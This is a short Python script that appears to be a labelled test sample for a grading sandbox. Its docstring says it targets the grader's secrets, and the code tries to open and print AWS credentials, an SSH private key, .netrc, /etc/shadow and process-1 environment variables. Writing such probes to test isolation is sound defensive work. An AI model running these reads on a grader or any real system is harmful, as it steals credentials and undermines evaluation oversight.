"""
what: Reads credentials, tokens and keys of the one who grades.
named: "tried: (opening|looking into) '/"
"""
# %% double
import os

for path in (
    "/home/grader/.aws/credentials",
    "/home/grader/.ssh/id_ed25519",
    "/home/grader/.netrc",
    os.path.expanduser("~grader/.aws/credentials"),
    "/etc/shadow",
    "/proc/1/environ",
):
    try:
        with open(path) as file:
            print(path, file.read())
    except OSError as error:
        print(error)
